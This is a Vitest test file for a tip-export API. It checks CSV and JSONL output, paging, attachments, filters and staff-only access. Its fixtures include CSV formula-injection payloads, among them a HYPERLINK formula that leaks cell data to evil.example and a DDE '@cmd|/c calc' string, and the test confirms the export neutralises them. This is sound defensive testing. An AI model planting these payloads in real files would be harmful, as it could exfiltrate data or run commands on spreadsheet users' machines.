import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TipRecord } from '#core/tips/tip-record';
import { typicalAttachments } from '../../support/attachment-fixtures';
import { type StaffStack, startStaffStack } from '../../support/staff-client';
import { batchWriteTips, seedTip, tipsOverTime } from '../../support/staff-seed';

/** A small RFC 4180 reader: enough to check what a spreadsheet would see in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('GET /tips/export', () => {
  let s: StaffStack;
  const hostile = seedTip({
    createdAt: new Date('2026-11-24T10:00:00Z'),
    topic: 'africa',
    subject: '+SUM(1,2)',
    message: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")',
  });
  const others = [
    seedTip({
      createdAt: new Date('2026-11-24T10:01:00Z'),
      topic: 'africa',
      message: '@cmd|/c calc!A0 and more text',
    }),
    seedTip({
      createdAt: new Date('2026-11-24T10:02:00Z'),
      topic: 'africa',
      message: '-2+3 reported, "quoted", with, commas\nand a second line',
    }),
    seedTip({
      createdAt: new Date('2026-11-24T10:03:00Z'),
      topic: 'africa',
      message: '\t=1+1 hidden behind a tab',
    }),
  ];
  const withFiles = seedTip({
    createdAt: new Date('2026-11-24T11:00:00Z'),
    topic: 'middle-east',
    attachments: typicalAttachments(),
  });
  const textOnly = seedTip({ createdAt: new Date('2026-11-24T11:01:00Z'), topic: 'middle-east' });
  let bulk: TipRecord[];

  beforeAll(async () => {
    s = await startStaffStack('staff-export');
    bulk = tipsOverTime(230, new Date('2026-11-23T00:00:00Z'), { topic: 'europe', status: 'in-review' });
    await batchWriteTips(s.doc, s.tableName, [hostile, ...others, withFiles, textOnly, ...bulk]);
  });
  afterAll(async () => s?.stop());

  const exportText = async (query: string) => {
    const res = await fetch(`${s.stack.apiUrl}/tips/export?${query}`, { headers: s.auth });
    return { res, text: await res.text() };
  };

  it('neutralises formula cells in CSV and keeps the text readable', async () => {
    const { res, text } = await exportText('format=csv&topic=africa');

    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="tips-.*\.csv"$/);
    const [header, ...rows] = parseCsv(text);
    const col = (name: string) => (header ?? []).indexOf(name);
    const byId = new Map(rows.map((r) => [r[col('id')], r]));
    expect(rows).toHaveLength(4);
    expect(byId.get(hostile.id)?.[col('message')]).toBe(`'${hostile.message}`);
    expect(byId.get(hostile.id)?.[col('subject')]).toBe("'+SUM(1,2)");
    expect(byId.get(others[0]?.id)?.[col('message')]).toBe("'@cmd|/c calc!A0 and more text");
    expect(byId.get(others[1]?.id)?.[col('message')]).toBe(`'${others[1]?.message}`);
    // The tab is a formula character and a delimiter some spreadsheets split on: both are neutralised.
    expect(byId.get(others[2]?.id)?.[col('message')]).toBe("'\t'=1+1 hidden behind a tab");
    // No cell a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports every matching tip exactly once across pages, newest first, as JSON lines', async () => {
    const { res, text } = await exportText('format=jsonl&status=in-review');

    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as TipRecord);
    expect(lines.map((t) => t.id)).toEqual(bulk.map((t) => t.id).reverse());
    expect(lines[0]).toEqual(bulk.at(-1));
  });

  it('lists attachments by id, type and size: a CSV column and the JSONL records', async () => {
    const csv = await exportText('format=csv&topic=middle-east');
    const jsonl = await exportText('format=jsonl&topic=middle-east');

    const [header, ...rows] = parseCsv(csv.text);
    const cell = (id: string) => rows.find((r) => r[0] === id)?.[(header ?? []).indexOf('attachments')];
    expect(header?.at(-1)).toBe('attachments');
    expect(cell(withFiles.id)).toBe(
      'att-photo-1 image/jpeg 1234567;att-photo-2 image/png 845000;att-video-1 video/mp4 48200000;' +
        'att-doc-1 application/vnd.openxmlformats-officedocument.wordprocessingml.document 31000',
    );
    expect(cell(textOnly.id)).toBe('');
    const lines = jsonl.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as TipRecord);
    expect(lines.find((t) => t.id === withFiles.id)?.attachments).toEqual(withFiles.attachments);
    expect(lines.find((t) => t.id === textOnly.id)).not.toHaveProperty('attachments');
  });

  it('applies the list filters, refuses unknown formats and needs the staff group', async () => {
    const csv = await exportText('topic=europe&from=2026-11-22T23:58:00Z');
    const bad = await exportText('format=xlsx');
    const reader = await fetch(`${s.stack.apiUrl}/tips/export`, {
      headers: { authorization: `Bearer ${await s.stack.issuer.mint({ user: 'eve', groups: [] })}` },
    });

    expect(parseCsv(csv.text)).toHaveLength(1 + 120);
    expect(bad.res.status).toBe(400);
    expect(reader.status).toBe(403);
  });
});
